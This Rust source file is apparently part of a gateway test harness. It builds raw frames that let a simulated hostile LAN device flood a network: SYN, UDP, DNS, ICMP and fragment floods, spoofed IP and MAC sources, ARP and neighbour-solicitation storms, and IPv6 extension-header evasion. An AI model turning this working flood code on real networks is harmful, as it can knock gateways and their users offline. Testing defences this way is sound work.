//! What a hostile device can send: frames of one kind, as fast as they go, from its own interface.

mod ipv6;

use std::net::Ipv4Addr;
use std::os::fd::AsRawFd as _;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use clap::{Args, ValueEnum};
use nix::sys::socket::{MsgFlags, send};

use crate::wire::{checksum, open};
use ipv6::Between;

/// One way to be a nuisance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Nuisance {
    /// The first packet of a TCP connection to a random host and port in the internet
    Connections,
    /// The same to the gateway's ports
    Portal,
    /// Datagrams to random hosts and ports
    Datagrams,
    /// Questions for random names
    Names,
    /// ICMP echo requests to random hosts with much in them, as a tunnel's
    Pings,
    /// First parts of datagrams to random hosts, whose others never come
    Fragments,
    /// Connections from random addresses of the LAN
    Addresses,
    /// Connections from random devices with random addresses
    Devices,
    /// ARP requests for the gateway from random devices with random addresses
    Arp,
    /// IPv6 neighbour solicitations for the gateway likewise
    Neighbours,
    /// As connections, over IPv6
    Connections6,
    /// The same behind extension headers
    Extensions6,
    /// As fragments, over IPv6
    Fragments6,
    /// As addresses, over IPv6
    Addresses6,
    /// As devices, over IPv6
    Devices6,
}

impl Nuisance {
    /// All of them.
    pub const ALL: [Self; 15] = [
        Self::Connections,
        Self::Portal,
        Self::Datagrams,
        Self::Names,
        Self::Pings,
        Self::Fragments,
        Self::Addresses,
        Self::Devices,
        Self::Arp,
        Self::Neighbours,
        Self::Connections6,
        Self::Extensions6,
        Self::Fragments6,
        Self::Addresses6,
        Self::Devices6,
    ];

    /// As it is called on the command line.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Connections => "connections",
            Self::Portal => "portal",
            Self::Datagrams => "datagrams",
            Self::Names => "names",
            Self::Pings => "pings",
            Self::Fragments => "fragments",
            Self::Addresses => "addresses",
            Self::Devices => "devices",
            Self::Arp => "arp",
            Self::Neighbours => "neighbours",
            Self::Connections6 => "connections6",
            Self::Extensions6 => "extensions6",
            Self::Fragments6 => "fragments6",
            Self::Addresses6 => "addresses6",
            Self::Devices6 => "devices6",
        }
    }
}

/// What to send, from `eth0`.
#[derive(Debug, Args)]
pub struct Flood {
    /// What kind
    kind: Nuisance,
    /// Own hardware address, such as 02:00:00:00:00:01
    #[arg(long)]
    mac: String,
    /// Own address
    #[arg(long)]
    ipv4: Ipv4Addr,
    /// The gateway's hardware address
    #[arg(long)]
    gateway: String,
    /// Frames a second at most
    #[arg(long, default_value_t = 50_000)]
    rate: u32,
}

const GATEWAY4: Ipv4Addr = Ipv4Addr::new(10, 80, 0, 1);
/// The attacker's own address, within the LAN's prefix.
const OWN6: u64 = 3 << 40;
const BROADCAST: [u8; 6] = [0xff; 6];
/// Sent between two looks at the clock.
const AT_ONCE: u32 = 50;

impl Flood {
    /// Until ended.
    ///
    /// # Errors
    /// No root, or no interface `eth0`.
    pub fn run(&self) -> anyhow::Result<()> {
        let (wire, own, gateway) = (open("eth0", None)?, hardware(&self.mac)?, hardware(&self.gateway)?);
        // A walk over all numbers that looks random; nobody has to be outwitted by it.
        let mut number = 0x9e37_79b9_u32;
        let start = Instant::now();
        for bunch in 1_u32.. {
            for _ in 0..AT_ONCE {
                number = number.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                // A full queue is no reason to stop.
                _ = send(wire.as_raw_fd(), &self.frame(number, own, gateway), MsgFlags::empty());
            }
            let due = start + Duration::from_secs(1) * AT_ONCE / self.rate.max(1) * bunch;
            std::thread::sleep(due.saturating_duration_since(Instant::now()));
        }
        Ok(())
    }

    fn frame(&self, number: u32, own: [u8; 6], gateway: [u8; 6]) -> Vec<u8> {
        let [a, b, c, d] = number.to_be_bytes();
        let (port, other_port) = (u16::from_be_bytes([c, d]) | 1024, u16::from_be_bytes([b, c]) | 1);
        let host = Ipv4Addr::new(203, a % 128, b, c);
        let other6 = u64::from(number) | 2 << 40;
        let between = |from, source| Between {
            from,
            to: gateway,
            source: ipv6::local(source),
            destination: ipv6::host(number),
        };
        let (stranger, address) = ([2, 0xee, a, b, c, d], Ipv4Addr::new(10, 80, 128 | (b & 0x7f), c | 1));
        match self.kind {
            Nuisance::Connections => ip(own, gateway, self.ipv4, host, &Payload::Syn(port, other_port)),
            Nuisance::Portal => {
                let at = [8080, 3990, 8081].get(usize::from(d % 3)).copied().unwrap_or(8080);
                ip(own, gateway, self.ipv4, GATEWAY4, &Payload::Syn(port, at))
            }
            Nuisance::Datagrams => ip(own, gateway, self.ipv4, host, &Payload::Udp(port, other_port, &[0; 64])),
            Nuisance::Names => {
                let mut question = vec![c, d, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 8];
                question.extend(format!("{number:08x}").bytes());
                question.extend(b"\x07example\x03org\x00\x00\x01\x00\x01");
                ip(own, gateway, self.ipv4, GATEWAY4, &Payload::Udp(port, 53, &question))
            }
            Nuisance::Addresses => ip(own, gateway, address, host, &Payload::Syn(port, other_port)),
            Nuisance::Devices => ip(stranger, gateway, address, host, &Payload::Syn(port, other_port)),
            Nuisance::Pings => ip(own, gateway, self.ipv4, host, &Payload::Echo(port, other_port)),
            Nuisance::Fragments => ip(own, gateway, self.ipv4, host, &Payload::Fragment(port, other_port)),
            Nuisance::Arp => arp(stranger, address),
            Nuisance::Neighbours => ipv6::solicitation(stranger, number),
            Nuisance::Connections6 => ipv6::syn(between(own, OWN6), (port, other_port)),
            Nuisance::Extensions6 => ipv6::syn_behind_extensions(between(own, OWN6), (port, other_port)),
            Nuisance::Fragments6 => ipv6::fragment(between(own, OWN6), number, (port, other_port)),
            Nuisance::Addresses6 => ipv6::syn(between(own, other6), (port, other_port)),
            Nuisance::Devices6 => ipv6::syn(between(stranger, other6), (port, other_port)),
        }
    }
}

/// A frame with a datagram.
pub(crate) fn udp(
    from: [u8; 6],
    to: [u8; 6],
    source: (Ipv4Addr, u16),
    destination: (Ipv4Addr, u16),
    data: &[u8],
) -> Vec<u8> {
    let payload = Payload::Udp(source.1, destination.1, data);
    ip(from, to, source.0, destination.0, &payload)
}

enum Payload<'a> {
    Syn(u16, u16),
    Udp(u16, u16, &'a [u8]),
    Echo(u16, u16),
    /// A datagram's first part.
    Fragment(u16, u16),
}

fn ip(from: [u8; 6], to: [u8; 6], source: Ipv4Addr, destination: Ipv4Addr, payload: &Payload) -> Vec<u8> {
    // Not to be fragmented, or so numbered and with more to follow.
    let (number, flags) = match payload {
        Payload::Fragment(number, _) => (*number, 0x20),
        _ => (0, 0x40),
    };
    let (protocol, mut body) = match payload {
        Payload::Syn(from, to) => {
            let mut tcp = [from.to_be_bytes(), to.to_be_bytes()].concat();
            tcp.extend([0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
            (6, tcp)
        }
        Payload::Udp(from, to, data) => {
            let length = u16::try_from(data.len() + 8).unwrap_or(u16::MAX);
            let mut udp = [from.to_be_bytes(), to.to_be_bytes(), length.to_be_bytes(), [0, 0]].concat();
            udp.extend(*data);
            (17, udp)
        }
        Payload::Echo(number, sequence) => {
            let mut echo = [[8, 0], [0, 0], number.to_be_bytes(), sequence.to_be_bytes()].concat();
            echo.extend([0x55; 512]);
            let sum = checksum(&echo).to_be_bytes();
            echo.splice(2..4, sum);
            (1, echo)
        }
        Payload::Fragment(from, to) => {
            let mut udp = [from.to_be_bytes(), to.to_be_bytes(), [4, 0], [0, 0]].concat();
            udp.extend([0; 56]);
            (17, udp)
        }
    };
    if protocol == 6 {
        let length = u16::try_from(body.len()).unwrap_or(u16::MAX).to_be_bytes();
        let pseudo = [&source.octets()[..], &destination.octets(), &[0, 6], &length].concat();
        let sum = checksum(&[pseudo, body.clone()].concat()).to_be_bytes();
        body.splice(16..18, sum);
    }
    let length = u16::try_from(body.len() + 20).unwrap_or(u16::MAX).to_be_bytes();
    let mut header = [
        &[0x45, 0][..],
        &length,
        &number.to_be_bytes(),
        &[flags, 0, 64, protocol, 0, 0],
    ]
    .concat();
    header.extend(source.octets());
    header.extend(destination.octets());
    let sum = checksum(&header).to_be_bytes();
    header.splice(10..12, sum);
    [&to[..], &from, &[0x08, 0], &header, &body].concat()
}

fn arp(from: [u8; 6], source: Ipv4Addr) -> Vec<u8> {
    let request = [0, 1, 8, 0, 6, 4, 0, 1];
    let (to, who) = ([0; 6], GATEWAY4.octets());
    [
        &BROADCAST[..],
        &from,
        &[0x08, 0x06],
        &request,
        &from,
        &source.octets(),
        &to,
        &who,
    ]
    .concat()
}

/// The octets of a hardware address such as 02:00:00:00:00:01.
pub(crate) fn hardware(mac: &str) -> anyhow::Result<[u8; 6]> {
    let octets = mac
        .split(':')
        .map(|part| u8::from_str_radix(part, 16))
        .collect::<Result<Vec<u8>, _>>();
    octets
        .ok()
        .and_then(|octets| octets.try_into().ok())
        .with_context(|| format!("{mac} is no hardware address"))
}
